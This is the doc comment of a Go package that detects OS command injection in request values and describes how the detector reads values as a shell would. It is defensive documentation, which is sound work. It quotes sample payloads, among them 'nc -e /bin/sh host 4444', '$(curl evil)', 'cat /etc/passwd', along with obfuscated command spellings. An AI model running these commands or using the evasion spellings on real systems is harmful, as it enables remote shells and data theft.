// Package cmdi detects OS command injection in request values. It is one of
// the string detectors of the injection inspector (internal/inspect), which
// decodes each value once and calls Detect on it.
//
// The threat: a value that reaches a shell (system(), popen, exec with
// sh -c, backticks) or an interpreter's eval can end the intended command
// and start another: "x; cat /etc/passwd", "x | nc -e /bin/sh host 4444",
// "$(curl evil)", "`id`". Detect models how a shell reads a value rather
// than matching payload strings:
//   - a command separator (; | || & && CR LF, and a literal \n) or a
//     substitution ($(), “, <(), {cmd,arg}) must be followed by a command;
//     a separator alone ("Tom & Jerry", "R&D; sales", "cats | dogs") is not
//     an attack;
//   - the command word is read as the shell reads it: quotes, backslashes,
//     carets (cmd.exe) and empty expansions ($@, $1, ${x}) inside it are
//     removed (c'a't, \c\a\t, ca$@t, p^o^w^e^r^s^h^e^l^l), $IFS counts as a
//     space, a path is reduced to its base name (/bin/sh, /usr/bin/id) and
//     .exe dropped;
//   - command names that are not ordinary words (id, whoami, wget, nc,
//     powershell ...) count wherever they follow a separator; names that
//     are also words (cat, echo, sleep, type, net) only with shell-looking
//     arguments (an option, a path, a number where the command takes one, a
//     redirection, a quoted string), so that "; time to go" passes;
//   - a value that is a whole command line ("cat /etc/passwd", "nc -lvvp
//     4444 -e /bin/sh", "ipconfig /all") is flagged when its arguments hold
//     no word of prose; "ls -la is a command" and "curl recipes" pass. A
//     single bare word ("id", "ls", "true") is never flagged: it cannot be
//     told from a user name or a status;
//   - a value that opens with a separator and a lower-case word ("|nid",
//     "; sysinfo") ends the argument it is placed in, whatever the word;
//   - tools driven by a subcommand count with it (net user, netsh
//     firewall, reg add, sc stop, wmic process, vssadmin delete), and an
//     unquoted Windows path with spaces ("C:\Documents and Settings\*") is
//     one argument, not prose;
//   - a value whose '+' stands where a form-encoded space would be
//     ("|+dir+c:/", "cat+/etc/passwd") is read a second time with '+' as a
//     space: a payload that reached the application still form-encoded;
//   - further classes: $IFS, the Shellshock prefix "() {", server-side
//     include directives (<!--#exec), calls of shell-out and eval functions
//     with a string argument (system('id'), exec("ls"), phpinfo()), PHP code
//     tags and interpolation ({${...}}, $_GET[...]), template expressions
//     that compute ({{7*7}}, ${7*7}, {{ f() }}, ${jndi:...}) and template
//     statement tags ({% for x in y %}, {% include ... %}), /dev/tcp
//     reverse shells and wildcard executable paths (/???/c?t), where a '?'
//     that opens a query string ("/sync?https://...", "/a?id=") is not a
//     wildcard.
//
// A value that carries the spellings a shell removes or expands inside a
// word — a backslash before a letter, an empty quote pair, an expansion that
// is empty or a blank ($@, $9, ${x:-}, ${IFS:0:1}), a brace list without
// blanks — and passes the rules as written is read a second time the way a
// shell reads it (normalize.go): parsed with mvdan.cc/sh/v3 in an unquoted,
// a single-quoted and a double-quoted argument, every simple command's words
// expanded (quote and backslash removal, empty and $IFS expansions, brace
// expansion; an environment with only the default IFS), and the rules run on
// that reading (rule cmdi.obfuscated). Words that hold blanks or separators
// after expansion are printed quoted, so quoted text never becomes a command
// line. Values without those spellings never reach the parser.
//
// Markdown is respected: backticks after a space in prose are code spans and
// pipes in table rows are cells. URLs pass: their ';', '&' and '|' are
// followed by parameters (a word followed by '=' is an assignment, not a
// command).
package cmdi
